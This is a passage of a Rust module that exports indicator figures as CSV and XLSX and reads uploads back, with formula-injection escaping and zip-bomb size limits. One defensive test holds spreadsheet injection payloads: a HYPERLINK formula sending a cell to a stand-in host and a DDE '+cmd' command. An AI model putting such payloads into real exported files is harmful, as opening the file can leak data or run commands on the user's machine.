//! Table files: writing the figures as CSV and XLSX, and reading either back as rows of text.
//!
//! CSV is UTF-8 with a byte-order mark, so that spreadsheet programs show Chinese text
//! correctly. In XLSX, values are numbers shown with the indicator's decimals when a number
//! holds them exactly, and text otherwise; reading a number cell takes the shortest decimal
//! that is the same number, so `2.6` reads back as `2.6` and never as `2.6000000000000001`.

use calamine::{DataRef, Reader, Xlsx};
use rust_decimal::Decimal;
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use std::borrow::Cow;
use std::collections::BTreeMap;
use std::io::{Cursor, Read};
use std::str::FromStr;

use super::limits::{
    Budget, CHECK_EVERY, MAX_CELL_CHARS, MAX_CELLS, MAX_COLUMNS, MAX_ROWS, MAX_TEXT_BYTES,
    MAX_UNZIPPED_BYTES, MAX_UNZIPPED_PARTS_BYTES, MAX_XML_PIECE_BYTES, grouped,
};
use super::{Cell, DEFINITION_COLUMNS, FIGURE_COLUMNS, FigureRow, column_header};
use crate::i18n::{t, t1, t2, tn};

/// The name of the XLSX sheet of figures (the one an upload reads).
pub const FIGURES_SHEET: &str = "figures";
/// The name of the XLSX sheet of definitions.
pub const DEFINITIONS_SHEET: &str = "indicators";

const BOM: &str = "\u{FEFF}";

/// The figures as CSV: a byte-order mark, the header, one line per figure.
pub fn write_csv(rows: &[FigureRow]) -> Vec<u8> {
    let columns: Vec<&str> = FIGURE_COLUMNS.iter().map(|c| c.name).collect();
    let cells: Vec<Vec<Cell>> = rows.iter().map(FigureRow::cells).collect();
    write_cells_csv(&columns, &cells)
}

/// Any table as CSV: a byte-order mark, the header (in the page's language), one line per row.
pub fn write_cells_csv(columns: &[&str], rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut out = BOM.as_bytes().to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        // Writing to memory cannot fail.
        w.write_record(columns.iter().map(|c| column_header(c)))
            .expect("write to memory");
        for row in rows {
            w.write_record(row.iter().map(csv_text))
                .expect("write to memory");
        }
        w.flush().expect("write to memory");
    }
    out
}

/// What a text cell may begin with for a spreadsheet program to take it for a formula (or, with
/// a tab or a carriage return, to hide what follows).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as CSV writes it. Text that a spreadsheet program would run as a formula gets a
/// leading `'`, which shows it as text (numbers, negative ones too, stay numbers): a source
/// or note such as `=HYPERLINK(…)` is shown, never run. Text already beginning with `'`s before
/// such a character gets one more, so that reading strips exactly one.
fn csv_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(s) => escape_formula(s).into_owned(),
        other => other.text(),
    }
}

fn escape_formula(s: &str) -> Cow<'_, str> {
    if s.trim_start_matches('\'').starts_with(FORMULA_START) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The text a CSV cell was written from: without the one `'` [`csv_text`] adds.
fn unescape_formula(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_START) => rest,
        _ => s,
    }
}

/// The figures and the definitions behind them as an XLSX workbook of two sheets.
pub fn write_xlsx(rows: &[FigureRow], definitions: &[Vec<Cell>]) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let header = Format::new().set_bold();
    {
        let sheet = book.add_worksheet();
        sheet.set_name(FIGURES_SHEET)?;
        let names: Vec<String> = FIGURE_COLUMNS
            .iter()
            .map(|c| column_header(c.name))
            .collect();
        write_sheet(
            sheet,
            &header,
            &names,
            rows.iter().map(FigureRow::cells),
            &[
                12.0, 24.0, 40.0, 24.0, 7.0, 16.0, 12.0, 10.0, 10.0, 40.0, 30.0,
            ],
        )?;
    }
    {
        let sheet = book.add_worksheet();
        sheet.set_name(DEFINITIONS_SHEET)?;
        let names: Vec<String> = DEFINITION_COLUMNS
            .iter()
            .map(|n| column_header(n))
            .collect();
        write_sheet(sheet, &header, &names, definitions.iter().cloned(), &[])?;
    }
    book.save_to_buffer()
}

fn write_sheet(
    sheet: &mut Worksheet,
    header: &Format,
    names: &[String],
    rows: impl Iterator<Item = Vec<Cell>>,
    widths: &[f64],
) -> Result<(), XlsxError> {
    for (col, name) in names.iter().enumerate() {
        let col = u16::try_from(col).expect("few columns");
        sheet.write_string_with_format(0, col, name, header)?;
        sheet.set_column_width(col, widths.get(usize::from(col)).copied().unwrap_or(16.0))?;
    }
    sheet.set_freeze_panes(1, 0)?;
    for (r, cells) in rows.enumerate() {
        let r = u32::try_from(r + 1).map_err(|_| XlsxError::RowColumnLimitError)?;
        for (c, cell) in cells.iter().enumerate() {
            let c = u16::try_from(c).expect("few columns");
            match cell {
                Cell::Empty => {}
                Cell::Text(s) if s.is_empty() => {}
                Cell::Text(s) => {
                    sheet.write_string(r, c, s)?;
                }
                Cell::Int(i) => {
                    sheet.write_number(r, c, *i as f64)?;
                }
                Cell::Number(v) => match exact_f64(*v) {
                    Some(f) => {
                        // Shown with the decimals it was published with: 2.60 reads 2.60.
                        sheet.write_number_with_format(r, c, f, &number_format(v.scale()))?;
                    }
                    // More digits than a spreadsheet number holds: kept exactly, as text.
                    None => {
                        sheet.write_string(r, c, v.to_string())?;
                    }
                },
            }
        }
    }
    Ok(())
}

/// Shows a number with `decimals` places: a spreadsheet number keeps no trailing zeros of its
/// own, so `0.00` is what shows a value published as 2.60 as 2.60.
fn number_format(decimals: u32) -> Format {
    let pattern = if decimals == 0 {
        "0".to_owned()
    } else {
        format!("0.{}", "0".repeat(decimals as usize))
    };
    Format::new().set_num_format(pattern)
}

/// `v` as a spreadsheet number, if reading that number back gives `v` again.
fn exact_f64(v: Decimal) -> Option<f64> {
    let f = f64::from_str(&v.normalize().to_string()).ok()?;
    (number_text(f)
        .as_deref()
        .and_then(|t| Decimal::from_str(t).ok())
        == Some(v.normalize()))
    .then_some(f)
}

/// The shortest decimal spelling of a spreadsheet number, without exponent: `2.6`, `2024`.
fn number_text(f: f64) -> Option<String> {
    f.is_finite().then(|| format!("{f}"))
}

/// A table read from a file: its header and its non-empty rows, each with its line number
/// (the row number a spreadsheet program shows). Empty cells at the end of a row are left out.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RawTable {
    pub header: Vec<String>,
    pub rows: Vec<RawRow>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct RawRow {
    pub line: usize,
    pub cells: Vec<String>,
}

/// Why a file could not be read at all: it is not a table file, or it is beyond a limit of the
/// budget it is read within (see [`super::limits`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FileError {
    NotUtf8,
    Csv(String),
    Xlsx(String),
    Empty,
    Unknown,
    /// More than [`MAX_ROWS`] rows.
    TooManyRows,
    /// A cell beyond column [`MAX_COLUMNS`] in the row numbered `line`.
    TooManyColumns {
        line: usize,
    },
    /// A sheet declaring more rows or columns than the limits.
    SheetTooLarge {
        rows: u64,
        columns: u64,
    },
    /// More than [`MAX_CELLS`] cells.
    TooManyCells,
    /// A cell of more than [`MAX_CELL_CHARS`] characters in the row numbered `line`.
    CellTooLong {
        line: usize,
    },
    /// More than [`MAX_TEXT_BYTES`] of text in all cells.
    TooMuchText,
    /// A workbook unpacking to more than [`MAX_UNZIPPED_BYTES`].
    Unzipped,
    /// A workbook whose parts other than worksheets unpack to more than
    /// [`MAX_UNZIPPED_PARTS_BYTES`].
    UnzippedParts,
    /// A piece of a workbook's XML longer than [`MAX_XML_PIECE_BYTES`].
    XmlPiece,
    /// Reading took longer than the budget's time.
    TooSlow {
        seconds: u64,
    },
    /// Reading was stopped: nobody waits for it any more.
    Stopped,
}

impl FileError {
    /// Whether the file is refused for a limit of its budget, rather than for what it is.
    pub fn is_limit(&self) -> bool {
        !matches!(
            self,
            FileError::NotUtf8
                | FileError::Csv(_)
                | FileError::Xlsx(_)
                | FileError::Empty
                | FileError::Unknown
        )
    }
}

/// The message, in the current language (English outside a request).
impl std::fmt::Display for FileError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mib = |bytes: u64| bytes >> 20;
        let text = match self {
            FileError::NotUtf8 => t("upload-file-not-utf8"),
            FileError::Csv(e) => t1("upload-file-csv", "error", e),
            FileError::Xlsx(e) => t1("upload-file-xlsx", "error", e),
            FileError::Empty => t("upload-file-empty"),
            FileError::Unknown => t("upload-file-unknown"),
            FileError::TooManyRows => t1("upload-limit-rows", "limit", grouped(MAX_ROWS as u64)),
            FileError::TooManyColumns { line } => tn(
                "upload-limit-columns",
                &[
                    ("line", &grouped(*line as u64)),
                    ("limit", &MAX_COLUMNS),
                    ("columns", &super::FIGURE_COLUMNS.len()),
                ],
            ),
            FileError::SheetTooLarge { rows, columns } => tn(
                "upload-limit-sheet",
                &[
                    ("rows", &grouped(*rows)),
                    ("columns", &grouped(*columns)),
                    ("max_rows", &grouped(MAX_ROWS as u64)),
                    ("max_columns", &MAX_COLUMNS),
                ],
            ),
            FileError::TooManyCells => t1("upload-limit-cells", "limit", grouped(MAX_CELLS as u64)),
            FileError::CellTooLong { line } => t2(
                "upload-limit-cell",
                "line",
                grouped(*line as u64),
                "limit",
                grouped(MAX_CELL_CHARS as u64),
            ),
            FileError::TooMuchText => t1("upload-limit-text", "limit", mib(MAX_TEXT_BYTES as u64)),
            FileError::Unzipped => t1("upload-limit-unzipped", "limit", mib(MAX_UNZIPPED_BYTES)),
            FileError::UnzippedParts => {
                t1("upload-limit-parts", "limit", mib(MAX_UNZIPPED_PARTS_BYTES))
            }
            FileError::XmlPiece => t1(
                "upload-limit-piece",
                "limit",
                mib(MAX_XML_PIECE_BYTES as u64),
            ),
            FileError::TooSlow { seconds } => t1("upload-limit-time", "seconds", seconds),
            FileError::Stopped => t("upload-limit-stopped"),
        };
        f.write_str(&text)
    }
}

impl std::error::Error for FileError {}

/// What a reader keeps, counted against the limits as it is kept.
#[derive(Debug, Default)]
struct Tally {
    cells: usize,
    text: usize,
}

impl Tally {
    /// Counts a row of `cells` (already without empty cells at its end) on line `line`.
    fn row(&mut self, line: usize, cells: &[String]) -> Result<(), FileError> {
        self.widen(cells.len())?;
        for cell in cells {
            self.cell(line, cell)?;
        }
        Ok(())
    }

    /// Counts `by` more cells kept.
    fn widen(&mut self, by: usize) -> Result<(), FileError> {
        self.cells += by;
        if self.cells > MAX_CELLS {
            return Err(FileError::TooManyCells);
        }
        Ok(())
    }

    /// Counts the text of one cell on line `line`.
    fn cell(&mut self, line: usize, cell: &str) -> Result<(), FileError> {
        if cell.len() > MAX_CELL_CHARS && cell.chars().count() > MAX_CELL_CHARS {
            return Err(FileError::CellTooLong { line });
        }
        self.text += cell.len();
        if self.text > MAX_TEXT_BYTES {
            return Err(FileError::TooMuchText);
        }
        Ok(())
    }
}

fn is_blank(cells: &[String]) -> bool {
    cells.iter().all(|c| c.trim().is_empty())
}

/// Leaves out the empty cells at the end of a row.
fn trim_end(cells: &mut Vec<String>) {
    while cells.last().is_some_and(String::is_empty) {
        cells.pop();
    }
}

/// Runs a reader, turning a panic in it (a malformed file the library did not expect) into a
/// refusal of the file.
fn guarded(
    read: impl FnOnce() -> Result<RawTable, FileError>,
    unreadable: impl FnOnce(String) -> FileError,
) -> Result<RawTable, FileError> {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(read)).unwrap_or_else(|panic| {
        let what = panic
            .downcast_ref::<&str>()
            .map(|s| (*s).to_owned())
            .or_else(|| panic.downcast_ref::<String>().cloned())
            .unwrap_or_else(|| "malformed".to_owned());
        Err(unreadable(what))
    })
}

/// Reads a CSV file within `budget`: UTF-8, with or without a byte-order mark, separated by
/// commas (or by semicolons, as some spreadsheet programs save it). A text cell written with a
/// leading `'` that keeps spreadsheet programs from taking it for a formula (see [`write_csv`])
/// reads as the text without it.
pub fn read_csv(bytes: &[u8], budget: &Budget) -> Result<RawTable, FileError> {
    guarded(|| read_csv_within(bytes, budget), FileError::Csv)
}

fn read_csv_within(bytes: &[u8], budget: &Budget) -> Result<RawTable, FileError> {
    use csv_core::ReadRecordResult;
    let text = std::str::from_utf8(bytes).map_err(|_| FileError::NotUtf8)?;
    let text = text.strip_prefix(BOM).unwrap_or(text);
    let first_line = text.lines().next().unwrap_or_default();
    let delimiter = if !first_line.contains(',') && first_line.contains(';') {
        b';'
    } else {
        b','
    };
    let input = text.as_bytes();
    let mut reader = csv_core::ReaderBuilder::new().delimiter(delimiter).build();
    // A record's fields: at most the limit on columns, one more to notice a record with more;
    // their text grows as needed, up to the most the cells of a row may hold.
    let mut ends = [0usize; MAX_COLUMNS + 1];
    let mut out = vec![0u8; 4096];
    let max_out = MAX_COLUMNS * MAX_CELL_CHARS * 4;
    let mut lines = LineCounter::default();
    let mut tally = Tally::default();
    let mut table = RawTable::default();
    let mut header_seen = false;
    let mut pos = 0;
    for count in 1.. {
        if count % CHECK_EVERY == 0 {
            budget.check()?;
        }
        let start = pos;
        let (mut nout, mut nend) = (0, 0);
        let record = loop {
            let (result, nin, o, e) =
                reader.read_record(&input[pos..], &mut out[nout..], &mut ends[nend..]);
            pos += nin;
            nout += o;
            nend += e;
            match result {
                ReadRecordResult::InputEmpty => {}
                ReadRecordResult::OutputFull if out.len() < max_out => {
                    out.resize((out.len() * 2).min(max_out), 0);
                }
                ReadRecordResult::OutputFull => {
                    // More text than `MAX_COLUMNS` cells of the most characters hold: at
                    // least one of them holds more.
                    return Err(FileError::CellTooLong {
                        line: lines.line_at(input, start),
                    });
                }
                ReadRecordResult::OutputEndsFull => {
                    return Err(FileError::TooManyColumns {
                        line: lines.line_at(input, start),
                    });
                }
                ReadRecordResult::Record => break true,
                ReadRecordResult::End => break false,
            }
        };
        if !record {
            break;
        }
        if count > MAX_ROWS {
            return Err(FileError::TooManyRows);
        }
        let line = lines.line_at(input, start);
        if nend > MAX_COLUMNS {
            return Err(FileError::TooManyColumns { line });
        }
        let mut cells = Vec::with_capacity(nend);
        let mut from = 0;
        for &to in &ends[..nend] {
            // Quotes are taken out of UTF-8 text: what is left is UTF-8 too.
            let cell = std::str::from_utf8(&out[from..to]).map_err(|_| FileError::NotUtf8)?;
            cells.push(unescape_formula(cell).to_owned());
            from = to;
        }
        trim_end(&mut cells);
        tally.row(line, &cells)?;
        if is_blank(&cells) {
            continue;
        }
        if header_seen {
            table.rows.push(RawRow { line, cells });
        } else {
            table.header = cells;
            header_seen = true;
        }
    }
    if !header_seen {
        return Err(FileError::Empty);
    }
    Ok(table)
}

/// Line numbers of positions in a text, counted as the reader moves on (each byte once).
#[derive(Debug, Default)]
struct LineCounter {
    /// Where counting has got to, and the line number there (less one).
    at: usize,
    breaks: usize,
}

impl LineCounter {
    /// The line a record starting at byte `at` is on, counting from 1, as a text editor or a
    /// spreadsheet program numbers it (the reader may place a record's start on the line break
    /// that ended the one before).
    fn line_at(&mut self, bytes: &[u8], at: usize) -> usize {
        let mut start = at.min(bytes.len());
        while matches!(bytes.get(start), Some(b'\r' | b'\n')) {
            start += 1;
        }
        if start >= self.at {
            self.breaks += bytes[self.at..start]
                .iter()
                .filter(|b| **b == b'\n')
                .count();
        } else {
            self.breaks -= bytes[start..self.at]
                .iter()
                .filter(|b| **b == b'\n')
                .count();
        }
        self.at = start;
        1 + self.breaks
    }
}

/// Reads the `figures` sheet of an XLSX workbook (or its first sheet, if none has that name)
/// within `budget`: the workbook's sizes are checked before it is unpacked, the sheet's
/// declared dimension before its cells are read, and its cells one by one as they are read.
pub fn read_xlsx(bytes: &[u8], budget: &Budget) -> Result<RawTable, FileError> {
    guarded(
        || {
            check_workbook(bytes, budget)?;
            read_sheet(bytes, budget)
        },
        FileError::Xlsx,
    )
}

fn xlsx_error(e: impl std::fmt::Display) -> FileError {
    FileError::Xlsx(e.to_string())
}

fn read_sheet(bytes: &[u8], budget: &Budget) -> Result<RawTable, FileError> {
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(Cursor::new(bytes)).map_err(xlsx_error)?;
    let names = book.sheet_names();
    let name = names
        .iter()
        .find(|n| n.trim().eq_ignore_ascii_case(FIGURES_SHEET))
        .or(names.first())
        .cloned()
        .ok_or(FileError::Empty)?;
    budget.check()?;
    let mut reader = book.worksheet_cells_reader(&name).map_err(xlsx_error)?;
    let declared = reader.dimensions();
    let too_large =
        |(row, column): (u32, u32)| row as usize >= MAX_ROWS || column as usize >= MAX_COLUMNS;
    if too_large(declared.start) || too_large(declared.end) {
        return Err(FileError::SheetTooLarge {
            rows: u64::from(declared.end.0) + 1,
            columns: u64::from(declared.end.1) + 1,
        });
    }
    // Sheets list their cells row by row; a map keeps the rows in order whatever the file does.
    let mut rows: BTreeMap<u32, Vec<String>> = BTreeMap::new();
    let mut tally = Tally::default();
    let mut read = 0usize;
    while let Some(cell) = reader.next_cell().map_err(xlsx_error)? {
        read += 1;
        if read.is_multiple_of(CHECK_EVERY) {
            budget.check()?;
        }
        let (row, column) = cell.get_position();
        let line = row as usize + 1;
        if row as usize >= MAX_ROWS {
            return Err(FileError::TooManyRows);
        }
        if column as usize >= MAX_COLUMNS {
            return Err(FileError::TooManyColumns { line });
        }
        let text = cell_text(cell.get_value());
        if text.is_empty() {
            continue;
        }
        tally.cell(line, &text)?;
        let cells = rows.entry(row).or_default();
        let column = column as usize;
        if cells.len() <= column {
            tally.widen(column + 1 - cells.len())?;
            cells.resize(column + 1, String::new());
        }
        cells[column] = text;
    }
    let mut table = RawTable::default();
    let mut header_seen = false;
    for (row, cells) in rows {
        if is_blank(&cells) {
            continue;
        }
        if header_seen {
            table.rows.push(RawRow {
                line: row as usize + 1,
                cells,
            });
        } else {
            table.header = cells;
            header_seen = true;
        }
    }
    if !header_seen {
        return Err(FileError::Empty);
    }
    Ok(table)
}

/// A cell as text: numbers in their shortest exact decimal spelling.
fn cell_text(cell: &DataRef<'_>) -> String {
    match cell {
        DataRef::Empty => String::new(),
        DataRef::String(s) | DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => s.clone(),
        DataRef::SharedString(s) => (*s).to_owned(),
        DataRef::Int(i) => i.to_string(),
        DataRef::Float(f) => number_text(*f).unwrap_or_else(|| f.to_string()),
        DataRef::Bool(b) => b.to_string(),
        DataRef::DateTime(d) => format!("a date ({d})"),
        DataRef::Error(e) => format!("an error cell ({e})"),
    }
}

/// Whether a ZIP entry is a worksheet (read as a stream) rather than a part read whole.
fn is_worksheet(name: &str) -> bool {
    let name = name.replace('\\', "/").to_ascii_lowercase();
    name.starts_with("xl/worksheets/") && !name.contains("/_rels/")
}

/// Checks that a workbook unpacks within the limits, before a spreadsheet reader unpacks it:
/// first by the sizes its entries declare (nothing is unpacked if they are too large), then by
/// unpacking every entry into nothing, counting (entries may declare less than they hold). The
/// shared text's declared number of strings, which the reader reserves memory for, is checked
/// on the way.
fn check_workbook(bytes: &[u8], budget: &Budget) -> Result<(), FileError> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(xlsx_error)?;
    let (mut all, mut parts) = (0u64, 0u64);
    for i in 0..zip.len() {
        let entry = zip.by_index_raw(i).map_err(xlsx_error)?;
        all = all.saturating_add(entry.size());
        if !is_worksheet(entry.name()) {
            parts = parts.saturating_add(entry.size());
        }
    }
    if all > MAX_UNZIPPED_BYTES {
        return Err(FileError::Unzipped);
    }
    if parts > MAX_UNZIPPED_PARTS_BYTES {
        return Err(FileError::UnzippedParts);
    }
    let mut meter = Meter {
        budget,
        all: 0,
        parts: 0,
        piece: 0,
        worksheet: false,
        error: None,
    };
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).map_err(xlsx_error)?;
        let name = entry.name().replace('\\', "/").to_ascii_lowercase();
        meter.worksheet = is_worksheet(&name);
        meter.piece = 0;
        let mut metered = Metered {
            inner: &mut entry,
            meter: &mut meter,
        };
        let result = if name == "xl/sharedstrings.xml" {
            shared_strings_declared(&mut metered)
        } else {
            std::io::copy(&mut metered, &mut std::io::sink()).map(|_| None)
        };
        if let Some(e) = meter.error.take() {
            return Err(e);
        }
        let declared = result.map_err(xlsx_error)?;
        // The reader reserves room for this many strings before reading one.
        if declared.is_some_and(|n| n > MAX_CELLS as u64) {
            return Err(FileError::TooManyCells);
        }
    }
    Ok(())
}

/// Counts what is unpacked against the limits.
struct Meter<'a> {
    budget: &'a Budget,
    all: u64,
    parts: u64,
    /// Bytes since the last `<`: the length of the piece of XML being read.
    piece: usize,
    worksheet: bool,
    error: Option<FileError>,
}

impl Meter<'_> {
    fn count(&mut self, bytes: &[u8]) -> Result<(), FileError> {
        self.budget.check()?;
        self.all += bytes.len() as u64;
        if self.all > MAX_UNZIPPED_BYTES {
            return Err(FileError::Unzipped);
        }
        if !self.worksheet {
            self.parts += bytes.len() as u64;
            if self.parts > MAX_UNZIPPED_PARTS_BYTES {
                return Err(FileError::UnzippedParts);
            }
        }
        match bytes.iter().rposition(|b| *b == b'<') {
            Some(last) => {
                let longest = bytes[..last]
                    .split(|b| *b == b'<')
                    .map(<[u8]>::len)
                    .enumerate()
                    .map(|(i, len)| if i == 0 { self.piece + len } else { len })
                    .max()
                    .unwrap_or(0);
                self.piece = bytes.len() - last - 1;
                if longest > MAX_XML_PIECE_BYTES {
                    return Err(FileError::XmlPiece);
                }
            }
            None => self.piece += bytes.len(),
        }
        if self.piece > MAX_XML_PIECE_BYTES {
            return Err(FileError::XmlPiece);
        }
        Ok(())
    }
}

/// An entry of a workbook being unpacked, counted by its meter; past a limit, reading fails
/// and the meter holds why.
struct Metered<'a, 'm, R> {
    inner: R,
    meter: &'a mut Meter<'m>,
}

impl<R: Read> Read for Metered<'_, '_, R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        if let Err(e) = self.meter.count(&buf[..n]) {
            self.meter.error = Some(e);
            return Err(std::io::Error::other("over the limit"));
        }
        Ok(n)
    }
}

/// The number of strings the shared text declares (its `uniqueCount`, read as the spreadsheet
/// reader reads it), after unpacking the whole entry.
fn shared_strings_declared(entry: impl Read) -> std::io::Result<Option<u64>> {
    use quick_xml::events::Event;
    let mut xml = quick_xml::Reader::from_reader(std::io::BufReader::new(entry));
    let config = xml.config_mut();
    config.check_end_names = false;
    config.trim_text(false);
    config.check_comments = false;
    config.expand_empty_elements = true;
    let mut buf = Vec::new();
    let mut declared = None;
    loop {
        buf.clear();
        match xml.read_event_into(&mut buf) {
            Ok(Event::Start(e)) if e.local_name().as_ref() == b"sst" => {
                for attribute in e.attributes().flatten() {
                    if attribute.key.as_ref() == b"uniqueCount" {
                        // Any digits count: a reader may make a number of whatever it finds.
                        let digits: Vec<u8> = attribute
                            .value
                            .iter()
                            .copied()
                            .filter(u8::is_ascii_digit)
                            .collect();
                        declared = Some(if digits.len() > 18 {
                            u64::MAX
                        } else {
                            std::str::from_utf8(&digits)
                                .ok()
                                .and_then(|d| d.parse().ok())
                                .unwrap_or(0)
                        });
                    }
                }
                break;
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(std::io::Error::other(e)),
            _ => {}
        }
    }
    std::io::copy(xml.get_mut(), &mut std::io::sink())?;
    Ok(declared)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::plan::{ObservationKind, ObservationState};

    fn row(value: &str) -> FigureRow {
        FigureRow {
            plan: "demo".into(),
            indicator: "rd".into(),
            name_en: "R&D, \"intensity\"".into(),
            name_zh: "研发经费投入强度".into(),
            year: 2024,
            kind: ObservationKind::Actual,
            value: Decimal::from_str(value).unwrap(),
            unit: "%".into(),
            state: ObservationState::Published,
            source: "统计公报".into(),
            note: "line one\nline two".into(),
            commentary: "为什么变化".into(),
        }
    }

    #[test]
    fn csv_starts_with_a_byte_order_mark_and_reads_back_exactly() {
        let rows = [row("2.60"), row("45000"), row("0.0000001"), row("65")];
        let bytes = write_csv(&rows);
        assert!(bytes.starts_with(b"\xEF\xBB\xBFplan,indicator,name_en,"));
        let table = read_csv(&bytes, &Budget::unlimited()).unwrap();
        assert_eq!(table.header[0], "plan");
        assert_eq!(table.rows.len(), 4);
        // Each value with the digits it was published with: 2.60 keeps its zero, 65 gets none.
        assert_eq!(table.rows[0].cells[6], "2.60");
        assert_eq!(table.rows[3].cells[6], "65");
        assert_eq!(table.rows[0].cells[2], "R&D, \"intensity\"");
        assert_eq!(table.rows[0].cells[10], "line one\nline two");
        assert_eq!(table.rows[1].cells[6], "45000");
        assert_eq!(table.rows[2].cells[6], "0.0000001");
        assert_eq!(table.rows[1].line, 4, "the note's line break counts");
        let crlf = read_csv(b"plan\r\na\r\n\r\nb\r\n", &Budget::unlimited()).unwrap();
        let lines: Vec<usize> = crlf.rows.iter().map(|r| r.line).collect();
        assert_eq!(
            lines,
            [2, 4],
            "numbered as a spreadsheet program shows them"
        );
    }

    #[test]
    fn csv_saved_with_semicolons_reads_too() {
        let table = read_csv("plan;indicator\nx;y\n\n".as_bytes(), &Budget::unlimited()).unwrap();
        assert_eq!(table.header, ["plan", "indicator"]);
        assert_eq!(table.rows[0].cells, ["x", "y"]);
    }

    #[test]
    fn text_in_another_encoding_is_refused_with_what_to_do() {
        assert_eq!(
            read_csv(b"plan\n\xC4\xE3\xBA\xC3", &Budget::unlimited()),
            Err(FileError::NotUtf8)
        );
        assert_eq!(
            read_csv(b"\n\n", &Budget::unlimited()),
            Err(FileError::Empty)
        );
    }

    #[test]
    fn xlsx_numbers_read_back_as_the_same_decimal() {
        let values = [
            "2.6",
            "2.45",
            "0.1",
            "974.24",
            "75600",
            "12345678901234567.89",
        ];
        let rows: Vec<FigureRow> = values.into_iter().map(row).collect();
        let bytes = write_xlsx(&rows, &[]).unwrap();
        let table = read_xlsx(&bytes, &Budget::unlimited()).unwrap();
        assert_eq!(table.header.len(), FIGURE_COLUMNS.len());
        let read: Vec<&str> = table.rows.iter().map(|r| r.cells[6].as_str()).collect();
        // Too many digits for a spreadsheet number: kept as text with all of them.
        assert_eq!(
            read,
            [
                "2.6",
                "2.45",
                "0.1",
                "974.24",
                "75600",
                "12345678901234567.89"
            ]
        );
        assert_eq!(table.rows[0].cells[4], "2024");
        assert_eq!(table.rows[0].line, 2);
    }

    #[test]
    fn something_else_is_not_a_workbook() {
        assert!(matches!(
            read_xlsx(b"PK\x03\x04nonsense", &Budget::unlimited()),
            Err(FileError::Xlsx(_))
        ));
    }

    fn unlimited() -> Budget {
        Budget::unlimited()
    }

    #[test]
    fn csv_prefixes_formula_text_and_reads_it_back_exactly() {
        let mut r = row("-1.5");
        r.source = "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")".into();
        r.note = "+cmd|' /C calc'!A0".into();
        r.commentary = "@SUM(1+1)".into();
        r.name_en = "-minus".into();
        r.name_zh = "'=already quoted".into();
        r.unit = "\tt".into();
        let bytes = write_csv(std::slice::from_ref(&r));
        let text = String::from_utf8(bytes.clone()).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(line.contains(",'-minus,"), "{line}");
        assert!(line.contains(",''=already quoted,"), "{line}");
        assert!(
            line.contains(",-1.5,"),
            "a negative number stays a number: {line}"
        );
        assert!(line.contains("\"'=HYPERLINK(\"\"http"), "{line}");
        assert!(line.contains(",'+cmd|"), "{line}");
        assert!(line.contains(",'@SUM(1+1)"), "{line}");
        assert!(line.contains(",'\tt,"), "{line}");
        let back = read_csv(&bytes, &unlimited()).unwrap();
        let cells = &back.rows[0].cells;
        assert_eq!(cells[2], r.name_en);
        assert_eq!(cells[3], r.name_zh);
        assert_eq!(cells[6], "-1.5");
        assert_eq!(cells[7], r.unit);
        assert_eq!(cells[9], r.source);
        assert_eq!(cells[10], r.note);
        assert_eq!(cells[11], r.commentary);
        // Only the one quote the download adds is taken away.
        assert_eq!(unescape_formula("'plain"), "'plain");
        assert_eq!(unescape_formula("'-1"), "-1");
        assert_eq!(unescape_formula("''=x"), "'=x");
        assert_eq!(unescape_formula("=x"), "=x");
    }

    #[test]
    fn csv_line_numbers_are_counted_once_so_a_large_file_reads_quickly() {
        let mut text = String::from("plan,indicator\n");
        for i in 0..99_000 {
            text.push_str(&format!("p,\"multi\nline {i}\"\n"));
        }
        let started = std::time::Instant::now();
        let table = read_csv(text.as_bytes(), &unlimited()).unwrap();
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
        assert_eq!(table.rows.len(), 99_000);
        assert_eq!(table.rows[0].line, 2);
        assert_eq!(table.rows[98_999].line, 2 + 2 * 98_999);
    }

    #[test]
    fn csv_beyond_a_limit_is_refused_naming_it() {
        let rows = "x\n".repeat(MAX_ROWS + 1);
        assert_eq!(
            read_csv(rows.as_bytes(), &unlimited()),
            Err(FileError::TooManyRows)
        );
        assert!(read_csv("x\n".repeat(MAX_ROWS).as_bytes(), &unlimited()).is_ok());
        let wide = format!("plan\nx\n{}\n", "y,".repeat(MAX_COLUMNS));
        assert_eq!(
            read_csv(wide.as_bytes(), &unlimited()),
            Err(FileError::TooManyColumns { line: 3 })
        );
        let commas = format!("plan\n{}", ",".repeat(5 << 20));
        assert_eq!(
            read_csv(commas.as_bytes(), &unlimited()),
            Err(FileError::TooManyColumns { line: 2 })
        );
        let long = format!("plan\n{}\n", "长".repeat(MAX_CELL_CHARS + 1));
        assert_eq!(
            read_csv(long.as_bytes(), &unlimited()),
            Err(FileError::CellTooLong { line: 2 })
        );
        let message = FileError::TooManyRows.to_string();
        assert!(message.contains("100,000 rows"), "{message}");
    }

    #[test]
    fn reading_stops_when_told_to() {
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
        let budget = Budget::new(std::time::Duration::from_secs(60), stop);
        let rows = "x\n".repeat(10_000);
        assert_eq!(read_csv(rows.as_bytes(), &budget), Err(FileError::Stopped));
    }

    /// A ZIP archive of `(name, method, data, size)` entries (method 0 stored, 8 deflated;
    /// `size` is what the entry says it unpacks to), written field by field.
